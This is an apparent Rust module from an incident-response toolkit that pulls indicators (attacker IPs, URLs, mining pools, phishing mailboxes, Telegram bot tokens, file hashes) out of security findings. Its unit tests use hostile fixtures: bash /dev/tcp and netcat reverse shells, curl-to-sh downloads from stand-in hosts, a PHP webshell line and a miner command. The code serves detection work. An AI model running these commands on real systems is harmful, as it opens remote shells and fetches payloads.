//! Reads the indicators out of one finding, conservatively. A log finding gives
//! only its line's source address, as the log parsers read it, and only when the
//! rule is about an attack (a login rule only when raised to medium: a new source
//! may be the admin's); a log line holds whatever anyone sent. URLs, addresses and
//! pool domains come from the evidence of findings about code that reaches out
//! (droppers, miners, bots, shell scripts, loaders, shell history, processes,
//! persistence); mailboxes from phishing kits; bot tokens from any finding that is
//! not a log line; hashes from the scanner's `SHA-256 <hex>.` note. Every value
//! must parse as what it claims to be (an IP address, a host name, 64 hex digits),
//! and a value that runs into the cut end of a shortened excerpt is dropped, not
//! guessed.

use super::Kind;
use breachkit_finding::{Finding, Severity, unescape_bytes};
use breachkit_logs::{Event, Format, Kind as LogKind, Parser};
use std::net::IpAddr;

/// Rules of the logs and mail crates: their evidence is a log line or a summary.
const LOG_RULES: &[&str] = &["auth.", "web.", "mail.", "av."];
/// Rules of the logs crate whose evidence line's source is an attacker whatever
/// the finding's severity: guessing, spraying, attacks, webshell requests.
const ATTACK_RULES: &[&str] = &[
    "auth.ssh-brute-force",
    "auth.ssh-invalid-user-spray",
    "auth.ssh-login-after-failures",
    "web.php-in-uploads",
    "web.shell-command",
    "web.attack-patterns",
    "web.scanner",
    "web.login-flood",
    "web.login-after-flood",
    "mail.sasl-brute-force",
    "mail.sasl-login-after-failures",
];
/// Rules of the logs crate whose source may be the admin's own (a login from a new
/// place, a new page): an attacker's only when the rule raised it to medium or above.
const LOGIN_RULES: &[&str] = &[
    "auth.ssh-root-login",
    "auth.ssh-service-login",
    "auth.ssh-new-source",
    "auth.ssh-new-key",
    "web.new-php-burst",
];
/// Rules whose evidence is code or a command that reaches out to the attacker's
/// servers: the URLs and addresses in it are the attacker's.
const REACHING_RULES: &[&str] = &[
    "scan.dropper",
    "scan.miner",
    "scan.bot",
    "scan.shell-script",
    "scan.loader",
    "history.",
    "proc.",
    "cron.",
    "at.",
    "systemd.",
    "rclocal.",
    "persist.",
];
/// Rules of miners: `-o host:port` names the pool.
const MINER_RULES: &[&str] = &["scan.miner", "proc.miner", "history.miner"];
/// Rules whose evidence may name the mailbox a kit sends its loot to.
const PHISHING_RULES: &[&str] = &["scan.phishing"];
/// URL schemes exported (stratum: mining pools).
const SCHEMES: &[&str] = &[
    "http",
    "https",
    "ftp",
    "ftps",
    "tftp",
    "ws",
    "wss",
    "stratum+tcp",
    "stratum+ssl",
    "stratum+tls",
    "stratum2+tcp",
];
/// The longest URL exported.
const MAX_URL: usize = 2048;
/// Where a Telegram bot token follows.
const TELEGRAM: &str = "api.telegram.org/bot";

fn rule_in(f: &Finding, rules: &[&str]) -> bool {
    rules.iter().any(|r| f.rule.starts_with(r))
}

/// A parser that reads any log line format (the time zone does not matter: only
/// the source address is read).
pub(super) fn parser() -> Parser {
    Parser::new(Format::Auto, jiff::tz::TimeZone::UTC)
}

/// Every indicator of a finding.
pub(super) fn values(f: &Finding, parser: &Parser) -> Vec<(Kind, String)> {
    let mut out = Vec::new();
    if f.rule.starts_with("scan.")
        && let Some(hash) = sha256(&f.explanation)
    {
        out.push((Kind::Sha256, hash));
    }
    let Some(ev) = f.evidence.as_deref().map(Evidence::of) else {
        return out;
    };
    if rule_in(f, LOG_RULES) {
        // A log line holds what anyone sent (a request's query): only its source.
        let log_rule = |rules: &[&str]| rules.contains(&f.rule.as_str());
        let attacker =
            log_rule(ATTACK_RULES) || (log_rule(LOGIN_RULES) && f.severity >= Severity::Medium);
        if attacker && let Some(ip) = source_address(&ev, f.rule.starts_with("web."), parser) {
            out.push((Kind::SourceIp, ip.to_string()));
        }
        return out;
    }
    if rule_in(f, REACHING_RULES) {
        destinations(&ev, &mut out);
        if rule_in(f, MINER_RULES) {
            pools(&ev, &mut out);
        }
    }
    if rule_in(f, PHISHING_RULES) {
        emails(&ev, &mut out);
    }
    bot_tokens(&ev, &mut out);
    out
}

/// A finding's evidence, unescaped, and whether its end was cut.
struct Evidence {
    text: String,
    cut_end: bool,
}

impl Evidence {
    fn of(evidence: &str) -> Evidence {
        // `Finding::evidence` cuts with `…[N more bytes]`, the scanner's excerpt
        // window with `…` at either end.
        let (kept, marked) = match evidence.rfind("…[") {
            Some(at) if evidence.ends_with(" more bytes]") => {
                (evidence.get(..at).unwrap_or(evidence), true)
            }
            _ => (evidence, false),
        };
        let cut_end = marked || kept.ends_with('…');
        let kept = kept.strip_suffix('…').unwrap_or(kept);
        Evidence {
            text: String::from_utf8_lossy(&unescape_bytes(kept)).into_owned(),
            cut_end,
        }
    }

    /// Whether a value ending at byte `end` ran into the cut end.
    fn cut_at(&self, end: usize) -> bool {
        self.cut_end && end >= self.text.len()
    }
}

/// The hash the scanner notes last in an explanation (`… SHA-256 <hex>.`): the
/// last one, since an attacker's text (a code path) can only come before it.
fn sha256(explanation: &str) -> Option<String> {
    let at = explanation.rfind("SHA-256 ")?;
    let hex = explanation.get(at + "SHA-256 ".len()..)?;
    let (hex, rest) = hex.split_at_checked(64)?;
    (hex.bytes().all(|b| b.is_ascii_hexdigit()) && rest.starts_with('.'))
        .then(|| hex.to_ascii_lowercase())
}

/// The client of a web request, the source of an SSH or SMTP AUTH attempt.
fn source_address(ev: &Evidence, web: bool, parser: &Parser) -> Option<IpAddr> {
    let mut source = None;
    parser.parse(ev.text.as_bytes(), &mut |e: Event| {
        if source.is_none() {
            source = source_of(&e.kind).and_then(ip);
        }
    });
    if source.is_none() && web && ev.cut_end {
        // A long request cut before its status no longer parses; its client is the
        // first field (the second after a `vhost:port`).
        let mut fields = ev.text.split_ascii_whitespace();
        source = fields
            .next()
            .and_then(ip)
            .or_else(|| fields.next().and_then(ip));
    }
    source
}

fn source_of<'a>(kind: &LogKind<'a>) -> Option<&'a str> {
    match *kind {
        LogKind::SshFailed { source, .. }
        | LogKind::SshInvalidUser { source, .. }
        | LogKind::SshAccepted { source, .. }
        | LogKind::SaslFailed { source, .. }
        | LogKind::SaslLogin { source, .. } => Some(source),
        LogKind::Web(r) => Some(r.source),
        LogKind::WebError { client, .. } => client,
        _ => None,
    }
}

/// An IP address, `[v6]` or IPv4-mapped v6 as v4.
fn ip(s: &str) -> Option<IpAddr> {
    let s = s
        .strip_prefix('[')
        .and_then(|s| s.strip_suffix(']'))
        .unwrap_or(s);
    s.parse::<IpAddr>().ok().map(|a| a.to_canonical())
}

/// Whether an address is not globally routable (private, loopback, link-local,
/// CGNAT, multicast, unspecified); not an address at all counts as not internal.
pub(super) fn is_internal(value: &str) -> bool {
    match ip(value) {
        Some(IpAddr::V4(a)) => {
            let [first, second, ..] = a.octets();
            a.is_private()
                || a.is_loopback()
                || a.is_link_local()
                || a.is_unspecified()
                || a.is_broadcast()
                || a.is_multicast()
                || first == 0
                || (first == 100 && (64..128).contains(&second))
        }
        Some(IpAddr::V6(a)) => {
            let [first, ..] = a.segments();
            a.is_loopback()
                || a.is_unspecified()
                || a.is_multicast()
                || first & 0xfe00 == 0xfc00
                || first & 0xffc0 == 0xfe80
        }
        None => false,
    }
}

/// A host name as exported: lowercase, ASCII letters, digits and hyphens in two or
/// more labels, a top-level label that is a name (not a number).
fn domain(host: &str) -> Option<String> {
    let host = host.strip_suffix('.').unwrap_or(host).to_ascii_lowercase();
    let labels: Vec<&str> = host.split('.').collect();
    let ok_label = |l: &&str| {
        (1..=63).contains(&l.len())
            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            && !l.starts_with('-')
            && !l.ends_with('-')
    };
    let tld_ok = labels.last().is_some_and(|t| {
        t.starts_with("xn--") || (t.len() >= 2 && t.bytes().all(|b| b.is_ascii_alphabetic()))
    });
    (host.len() <= 253 && labels.len() >= 2 && labels.iter().all(ok_label) && tld_ok)
        .then_some(host)
}

/// A host (name or address) an attacker's code connects to.
fn host_value(host: &str) -> Option<(Kind, String)> {
    match ip(host) {
        Some(a) => Some((Kind::DestinationIp, a.to_string())),
        None => domain(host).map(|d| (Kind::Domain, d)),
    }
}

/// `host:port` with a numeric port.
fn host_port(s: &str) -> Option<(Kind, String)> {
    let (host, port) = s.rsplit_once(':')?;
    (!port.is_empty() && port.len() <= 5 && port.bytes().all(|b| b.is_ascii_digit()))
        .then(|| host_value(host))
        .flatten()
}

/// URLs (with their hosts), `/dev/tcp/HOST/PORT` and `nc ADDRESS PORT` reverse
/// shells.
fn destinations(ev: &Evidence, out: &mut Vec<(Kind, String)>) {
    let text = ev.text.as_str();
    let mut from = 0;
    while let Some(at) = text
        .get(from..)
        .and_then(|t| t.find("://"))
        .map(|i| i + from)
    {
        from = at + 3;
        if let Some((url, host)) = url_at(ev, at) {
            out.push((Kind::Url, url));
            out.push(host);
        }
    }
    for dev in ["/dev/tcp/", "/dev/udp/"] {
        for (at, _) in text.match_indices(dev) {
            let rest = text.get(at + dev.len()..).unwrap_or_default();
            let Some((host, port)) = rest.split_once('/') else {
                continue;
            };
            let port_ok = port.bytes().next().is_some_and(|b| b.is_ascii_digit());
            if let (true, Some(v)) = (port_ok, host_value(host)) {
                out.push(v);
            }
        }
    }
    // netcat's destination: the first address followed by a port (an address only:
    // its other words are options, files and commands).
    let words: Vec<&str> = text
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')'))
        .filter(|w| !w.is_empty())
        .collect();
    for (at, w) in words.iter().enumerate() {
        let program = w.rsplit('/').next().unwrap_or(w);
        if !matches!(program, "nc" | "ncat" | "netcat") {
            continue;
        }
        let args = words.get(at + 1..).unwrap_or_default();
        let target = args.windows(2).find_map(|pair| match pair {
            [host, port] if port.bytes().all(|b| b.is_ascii_digit()) && !port.is_empty() => {
                ip(host)
            }
            _ => None,
        });
        if let Some(a) = target {
            out.push((Kind::DestinationIp, a.to_string()));
        }
    }
}

/// The URL whose `://` is at byte `at`, and its host.
fn url_at(ev: &Evidence, at: usize) -> Option<(String, (Kind, String))> {
    let text = ev.text.as_str();
    let before = text.get(..at)?;
    let scheme_start = before
        .char_indices()
        .rev()
        .take_while(|(_, c)| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'))
        .last()
        .map_or(at, |(i, _)| i);
    let scheme = before.get(scheme_start..)?.to_ascii_lowercase();
    if !SCHEMES.contains(&scheme.as_str()) {
        return None;
    }
    // The character before the URL delimits it: a quote ends a quoted URL, though
    // `'` may be inside an unquoted one.
    let opener = before.get(..scheme_start)?.chars().next_back();
    let rest = text.get(at + 3..)?;
    let len = rest
        .char_indices()
        .find(|&(_, c)| {
            c.is_whitespace()
                || c.is_control()
                || matches!(c, '"' | '<' | '>' | '`' | '{' | '}' | '|' | '^')
                || (c == '\'' && opener == Some('\''))
                || (c == ')' && opener == Some('('))
        })
        .map_or(rest.len(), |(i, _)| i);
    let body = trim_url_end(rest.get(..len)?);
    if ev.cut_at(at + 3 + len) || body.is_empty() {
        return None;
    }
    let authority = body.split(['/', '?', '#']).next().unwrap_or_default();
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = match host_port.strip_prefix('[') {
        Some(v6) => v6.split_once(']').map(|(h, _)| h)?,
        None => host_port.split_once(':').map_or(host_port, |(h, _)| h),
    };
    let host = host_value(host)?;
    let url = format!("{}://{body}", before.get(scheme_start..)?);
    (url.len() <= MAX_URL).then_some((url, host))
}

/// A URL without the punctuation that ends the sentence or the group around it:
/// trailing `.,;:!?` and a `)` the URL did not open.
fn trim_url_end(mut body: &str) -> &str {
    loop {
        let trimmed = body.trim_end_matches(['.', ',', ';', ':', '!', '?']);
        let trimmed = match trimmed.strip_suffix(')') {
            Some(t) if t.matches('(').count() < trimmed.matches(')').count() => t,
            _ => trimmed,
        };
        if trimmed.len() == body.len() {
            return body;
        }
        body = trimmed;
    }
}

/// A miner's pool given as `-o host:port` or `--url host:port` (a URL form is
/// read by [`destinations`]).
fn pools(ev: &Evidence, out: &mut Vec<(Kind, String)>) {
    let words: Vec<&str> = ev
        .text
        .split_ascii_whitespace()
        .map(|w| w.trim_matches(['"', '\'']))
        .collect();
    for pair in words.windows(2) {
        if let [flag, arg] = pair
            && matches!(*flag, "-o" | "--url")
            && let Some(v) = host_port(arg)
        {
            out.push(v);
        }
    }
    for w in &words {
        if let Some(v) = w.strip_prefix("--url=").and_then(host_port) {
            out.push(v);
        }
    }
}

/// Mailboxes (`local@domain.tld`).
fn emails(ev: &Evidence, out: &mut Vec<(Kind, String)>) {
    let text = ev.text.as_str();
    let local_char =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '%' | '+' | '-');
    for (at, _) in text.match_indices('@') {
        let before = text.get(..at).unwrap_or_default();
        let start = before
            .char_indices()
            .rev()
            .take_while(|&(_, c)| local_char(c))
            .last()
            .map_or(at, |(i, _)| i);
        let after = text.get(at + 1..).unwrap_or_default();
        let len = after
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-')))
            .unwrap_or(after.len());
        let host = after.get(..len).unwrap_or_default();
        let host = host.trim_end_matches('.');
        let local = before.get(start..).unwrap_or_default();
        if local.is_empty()
            || local.len() > 64
            || local.starts_with('.')
            || local.ends_with('.')
            || ev.cut_at(at + 1 + len)
        {
            continue;
        }
        if let Some(d) = domain(host) {
            out.push((Kind::Email, format!("{local}@{d}")));
        }
    }
}

/// Telegram bot tokens (`ID:SECRET`) in `api.telegram.org/bot…` URLs.
fn bot_tokens(ev: &Evidence, out: &mut Vec<(Kind, String)>) {
    let text = ev.text.as_str();
    let lower = text.to_ascii_lowercase();
    for (at, _) in lower.match_indices(TELEGRAM) {
        let rest = text.get(at + TELEGRAM.len()..).unwrap_or_default();
        let Some((id, tail)) = rest.split_once(':') else {
            continue;
        };
        let len = tail
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-')))
            .unwrap_or(tail.len());
        let secret = tail.get(..len).unwrap_or_default();
        let id_ok = (6..=12).contains(&id.len()) && id.bytes().all(|b| b.is_ascii_digit());
        let end = at + TELEGRAM.len() + id.len() + 1 + len;
        if id_ok && (30..=64).contains(&secret.len()) && !ev.cut_at(end) {
            out.push((Kind::BotToken, format!("{id}:{secret}")));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(s: &str) -> Evidence {
        Evidence::of(s)
    }

    #[test]
    fn urls_end_where_their_quoting_does_and_cut_ones_are_dropped() {
        let mut out = Vec::new();
        destinations(
            &ev(
                r#"$b = file_get_contents('http://198.51.100.23/x86_64'); wget http://evil.example/a'b"c"#,
            ),
            &mut out,
        );
        assert_eq!(
            out,
            vec![
                (Kind::Url, "http://198.51.100.23/x86_64".to_string()),
                (Kind::DestinationIp, "198.51.100.23".to_string()),
                (Kind::Url, "http://evil.example/a'b".to_string()),
                (Kind::Domain, "evil.example".to_string()),
            ]
        );
        let mut grouped = Vec::new();
        destinations(
            &ev(
                "(curl -fsSL http://198.51.100.23/i.sh || wget -q -O- http://x.example/a_(b).) | sh",
            ),
            &mut grouped,
        );
        let urls: Vec<&str> = grouped
            .iter()
            .filter(|(k, _)| *k == Kind::Url)
            .map(|(_, v)| v.as_str())
            .collect();
        assert_eq!(
            urls,
            ["http://198.51.100.23/i.sh", "http://x.example/a_(b)"]
        );
        let mut cut = Vec::new();
        destinations(
            &ev("curl -s http://evil.example/very-long…[20 more bytes]"),
            &mut cut,
        );
        destinations(&ev("…-s http://evil.example/b…"), &mut cut);
        destinations(
            &ev("see javascript://x and http://localhost/ and http://1/"),
            &mut cut,
        );
        assert_eq!(cut, vec![]);
    }

    #[test]
    fn reverse_shells_pools_mailboxes_and_tokens() {
        let mut out = Vec::new();
        destinations(&ev("bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"), &mut out);
        destinations(
            &ev("cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 9001 >/tmp/f"),
            &mut out,
        );
        pools(
            &ev("nohup ./kswapd0 -o pool.example.org:3333 -u 4Ah -p x -o ./out"),
            &mut out,
        );
        emails(
            &ev(r#"mail("drop.box@example.net", "New log from $ip", $m); @x"#),
            &mut out,
        );
        bot_tokens(
            &ev(
                "https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage",
            ),
            &mut out,
        );
        bot_tokens(
            &ev("https://api.telegram.org/bot5123:AAF-x/sendMessage"),
            &mut out,
        );
        assert_eq!(
            out,
            vec![
                (Kind::DestinationIp, "203.0.113.77".to_string()),
                (Kind::DestinationIp, "203.0.113.7".to_string()),
                (Kind::Domain, "pool.example.org".to_string()),
                (Kind::Email, "drop.box@example.net".to_string()),
                (
                    Kind::BotToken,
                    "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw".to_string()
                ),
            ]
        );
    }

    fn finding(rule: &str, severity: Severity, evidence: &str) -> Finding {
        Finding {
            rule: rule.into(),
            step: breachkit_finding::Step::Aware,
            severity,
            title: "t".into(),
            explanation: format!("e. SHA-256 {}.", "a".repeat(64)),
            path: None,
            line: None,
            pid: None,
            time: None,
            evidence: Some(evidence.into()),
            mitre: None,
            next_step: None,
        }
    }

    #[test]
    fn a_log_line_gives_only_its_source_and_a_login_only_when_raised() {
        let p = parser();
        let web = "203.0.113.9 - - [06/May/2024:10:00:00 +0000] \"GET /x.php?u=http://a.example/x&t=api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw HTTP/1.1\" 200 1 \"-\" \"-\"";
        assert_eq!(
            values(&finding("web.shell-command", Severity::High, web), &p),
            [(Kind::SourceIp, "203.0.113.9".to_string())]
        );
        let ssh = "May  6 11:00:00 web sshd[1]: Accepted publickey for admin from 198.18.7.44 port 50110 ssh2";
        assert_eq!(
            values(&finding("auth.ssh-new-source", Severity::Low, ssh), &p),
            []
        );
        assert_eq!(
            values(&finding("auth.ssh-new-source", Severity::Medium, ssh), &p),
            [(Kind::SourceIp, "198.18.7.44".to_string())]
        );
        assert_eq!(
            values(
                &finding("scan.webshell", Severity::High, "system($_GET['c']);"),
                &p
            ),
            [(Kind::Sha256, "a".repeat(64))]
        );
    }

    #[test]
    fn the_scanners_hash_is_the_last_one_noted() {
        let h = "a".repeat(64);
        let fake = "b".repeat(64);
        assert_eq!(
            sha256(&format!("Path: SHA-256 {fake}. x. SHA-256 {h}.")),
            Some(h.clone())
        );
        assert_eq!(sha256(&format!("SHA-256 {}.", "g".repeat(64))), None);
        assert_eq!(sha256("SHA-256 abc."), None);
    }

    #[test]
    fn sources_come_from_the_parsed_line_and_internal_ones_are_marked() {
        let p = parser();
        let web = r#"203.0.113.9 - - [06/May/2024:10:00:00 +0000] "GET /x.php?c=id HTTP/1.1" 200 12 "-" "curl/8""#;
        assert_eq!(source_address(&ev(web), true, &p), ip("203.0.113.9"));
        let ssh = "May  6 10:00:00 web sshd[1]: Accepted password for root from ::ffff:198.51.100.23 port 22 ssh2";
        assert_eq!(source_address(&ev(ssh), false, &p), ip("198.51.100.23"));
        let cut = "203.0.113.10 - - [06/May/2024:10:00:00 +0000] \"GET /x…[900 more bytes]";
        assert_eq!(source_address(&ev(cut), true, &p), ip("203.0.113.10"));
        assert_eq!(
            source_address(&ev("Accepted password for root from somehost"), false, &p),
            None
        );
        for a in [
            "10.0.0.1",
            "127.0.0.1",
            "192.168.1.1",
            "100.64.0.1",
            "::1",
            "fd00::1",
            "fe80::1",
        ] {
            assert!(is_internal(a), "{a}");
        }
        for a in ["203.0.113.9", "8.8.8.8", "2001:db8::1"] {
            assert!(!is_internal(a), "{a}");
        }
    }
}
